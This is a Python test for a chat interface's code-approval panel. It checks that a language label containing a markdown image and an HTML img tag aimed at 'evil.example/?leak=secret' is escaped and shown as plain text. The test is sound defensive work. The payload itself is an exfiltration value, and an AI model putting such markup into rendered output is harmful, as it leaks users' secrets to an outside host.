"""The approval panel names the language of what will run as written: the name comes from a
tool or an external interpreter, and markup in it (an image address) is never read as such,
so the page fetches nothing it names."""

from __future__ import annotations

from backends.gradio.markdown import escape_title
from backends.gradio.panels import PanelState
from backends.gradio.renderer import ChatView
from backends.gradio.stream import PageView
from schema import ApprovalRequested, InterpreterState, StateChanged, ToolCall
from tests.backends.gradio.kit import make_page


async def test_the_language_of_what_will_run_shows_as_text() -> None:
    page = make_page()
    panels = PanelState()
    panels.apply(StateChanged(from_state=InterpreterState.INIT, to_state=InterpreterState.WAITING))
    call = ToolCall(id="c1", name="run", arguments="{}")
    named = "![x](https://evil.example/?leak=secret)<img src=https://evil.example/a>"
    panels.apply(
        ApprovalRequested(
            approval_id="a1", call=call, summary="Run it", detail="print(1)", language=named
        )
    )
    view = PageView(page, ChatView.from_history([]), panels, languages=("python",))
    detail = view.updates(full=True)[page.approval_code]
    label = detail.splitlines()[0]
    assert label == f"In full ({escape_title(named)}):"
    assert "<img" not in label and "&lt;img" in label, label  # no tag: its text
    assert "\\[x\\]" in label, label  # no link or image: its text
